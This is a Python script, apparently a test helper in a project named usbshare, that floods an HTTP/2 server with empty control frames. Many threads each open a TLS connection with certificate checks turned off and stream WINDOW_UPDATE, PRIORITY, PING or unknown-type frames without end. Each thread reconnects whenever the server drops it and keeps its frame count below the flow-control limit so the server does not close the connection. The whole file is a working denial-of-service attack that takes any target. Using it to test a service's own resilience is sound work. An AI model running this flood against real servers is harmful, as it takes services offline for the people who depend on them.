"""Connections that send HTTP/2 frames which ask for nothing, as fast as they are taken.

`python frame_flood.py TARGET KIND COUNT [BUNDLE]`, without a bundle without a certificate: says
`ready` once they send, and ends with stdin. A connection that the service ends comes back.
"""

from __future__ import annotations

import select
import socket
import ssl
import struct
import sys
import threading
import time
from contextlib import suppress

from usbshare.base.addresses import split_host_port

# RFC 9113, 3.4 and 4.1: a client begins with the preface and SETTINGS; length, type, flags, stream.
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SETTINGS, WINDOW_UPDATE, PRIORITY, PING, UNKNOWN = 0x4, 0x8, 0x2, 0x6, 0xFA
AGAIN_S = 0.05
CONNECT_TIMEOUT_S = 10.0


def frame(kind: int, payload: bytes = b"", stream: int = 0) -> bytes:
    """Return one frame."""
    head = struct.pack(">I", len(payload))[1:] + bytes([kind, 0]) + struct.pack(">I", stream)
    return head + payload


FLOODS = {
    "window_update": frame(WINDOW_UPDATE, struct.pack(">I", 1)),
    "priority": frame(PRIORITY, struct.pack(">IB", 0, 16), stream=1),
    "ping": frame(PING, bytes(8)),
    "unknown": frame(UNKNOWN),
    "large_unknown": frame(UNKNOWN, bytes(16_000)),
}
# The window may grow to 2^31 - 1 only: a little more is an error of the connection.
MOST_UPDATES = 2**31 - 2**17


def main() -> None:
    """Flood until stdin ends."""
    target, kind, count, *bundle = sys.argv[1:]
    host, port = split_host_port(target, 0)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    if bundle:
        context.load_cert_chain(bundle[0])
    begun = threading.Barrier(int(count) + 1)
    for _ in range(int(count)):
        arguments = ((host, port), context, FLOODS[kind], begun)
        threading.Thread(target=_flood_for_ever, args=arguments, daemon=True).start()
    begun.wait(CONNECT_TIMEOUT_S)
    print("ready", flush=True)
    sys.stdin.read()


def _flood_for_ever(
    address: tuple[str, int], context: ssl.SSLContext, one: bytes, begun: threading.Barrier
) -> None:
    waits = True
    while True:
        with suppress(OSError), socket.create_connection(address, CONNECT_TIMEOUT_S) as raw:
            raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            with context.wrap_socket(raw) as connection:
                connection.sendall(PREFACE + frame(SETTINGS))
                if waits:
                    begun.wait()
                waits = False
                _flood(connection, one * (16 * 1024 // len(one)))
        time.sleep(AGAIN_S)


def _flood(connection: ssl.SSLSocket, block: bytes) -> None:
    """Send until the other side hangs up; what it says is read and thrown away."""
    count = 0
    while count < MOST_UPDATES:
        connection.sendall(block)
        count += len(block) // 13
        while connection.pending() or select.select([connection], [], [], 0)[0]:
            if not connection.recv(65536):
                return


if __name__ == "__main__":
    main()
